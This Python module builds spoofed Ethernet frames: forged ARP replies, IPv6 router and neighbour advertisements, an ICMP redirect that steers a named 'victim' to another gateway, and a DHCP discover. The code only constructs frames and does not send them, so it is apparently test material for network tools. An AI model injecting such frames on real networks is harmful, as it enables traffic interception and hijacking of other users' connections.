"""Frames of Ethernet that no honest machine sends, byte by byte."""

import socket
import struct

BROADCAST = b"\xff" * 6
ARP_REPLY = 2
REDIRECT = 5  # of ICMP
SOLICIT_ROUTER, ADVERTISE_ROUTER, ADVERTISE_NEIGHBOUR = 133, 134, 136  # of ICMP version 6
ALL_NODES = bytes.fromhex("333300000001")  # of ff02::1


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def checksum(data):
    total = sum(struct.unpack(f">{(len(data) + 1) // 2}H", data + bytes(len(data) % 2)))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def ethernet(to, sender, kind, payload):
    return to + sender + struct.pack(">H", kind) + payload


def ip4(source, target, protocol, payload, options=b""):
    words = 5 + len(options) // 4
    header = struct.pack(">2B3H2BH4s4s", 0x40 | words, 0, 4 * words + len(payload), 1, 0, 64, protocol, 0,
                         socket.inet_aton(source), socket.inet_aton(target)) + options
    return header[:10] + struct.pack(">H", checksum(header)) + header[12:] + payload


def ip6(source, target, protocol, payload):
    return struct.pack(">IHBB16s16s", 6 << 28, len(payload), protocol, 255,
                       socket.inet_pton(socket.AF_INET6, source), socket.inet_pton(socket.AF_INET6, target)) + payload


def sum6(source, target, protocol, payload):
    return checksum(socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, target) +
                    struct.pack(">II", len(payload), protocol) + payload)


def udp4(to, sender, source, target, port, text, options=b"", from_port=6000):
    """Without a checksum, which IPv4 allows."""
    datagram = struct.pack(">4H", from_port, port, 8 + len(text), 0) + text
    return ethernet(to, sender, 0x0800, ip4(source, target, socket.IPPROTO_UDP, datagram, options))


def udp6(to, sender, source, target, port, text):
    head = struct.pack(">3H", 6000, port, 8 + len(text))
    sums = sum6(source, target, socket.IPPROTO_UDP, head + b"\0\0" + text)
    return ethernet(to, sender, 0x86dd, ip6(source, target, socket.IPPROTO_UDP,
                                           head + struct.pack(">H", sums) + text))


def protocol4(to, sender, source, target, protocol, payload):
    return ethernet(to, sender, 0x0800, ip4(source, target, protocol, payload))


def arp(to, sender, claimed, target, operation=ARP_REPLY):
    """The address `claimed` is at the sender's."""
    return ethernet(to, sender, 0x0806, struct.pack(">HHBBH6s4s6s4s", 1, 0x0800, 6, 4, operation, sender,
                                                    socket.inet_aton(claimed), to, socket.inet_aton(target)))


def neighbour_discovery(to, sender, kind, source, target, about=None):
    """One of the messages by which machines of a link find routers and each other."""
    link_layer = b"\x01\x01" + sender  # option: the source's address
    body = {
        SOLICIT_ROUTER: bytes(4) + link_layer,
        ADVERTISE_ROUTER: struct.pack(">BBHII", 64, 0, 1800, 0, 0) + link_layer,
        ADVERTISE_NEIGHBOUR: struct.pack(">I", 0x60000000) + socket.inet_pton(socket.AF_INET6, about or source) +
                             b"\x02\x01" + sender,
    }[kind]
    message = struct.pack(">BBH", kind, 0, 0) + body
    sums = sum6(source, target, socket.IPPROTO_ICMPV6, message)
    message = struct.pack(">BBH", kind, 0, sums) + body
    return ethernet(to, sender, 0x86dd, ip6(source, target, socket.IPPROTO_ICMPV6, message))


def redirect(to, sender, router, victim, target, gateway):
    """The router tells the victim that another gateway is better for the target. Of an answer to a ping, because of
    those the kernel heeds it without a socket."""
    sent = ip4(victim, target, socket.IPPROTO_ICMP, bytes(8))
    message = struct.pack(">BBH4s", REDIRECT, 1, 0, socket.inet_aton(gateway)) + sent
    message = message[:2] + struct.pack(">H", checksum(message)) + message[4:]
    return ethernet(to, sender, 0x0800, ip4(router, victim, socket.IPPROTO_ICMP, message))


def dhcp_discover(sender, text):
    lease = struct.pack(">4BIHH16s16s192xI", 1, 1, 6, 0, 1, 0, 0x8000, bytes(16), sender + bytes(10), 0x63825363)
    return udp4(BROADCAST, sender, "0.0.0.0", "255.255.255.255", 67, lease + b"\x35\x01\x01\xff" + text, from_port=68)
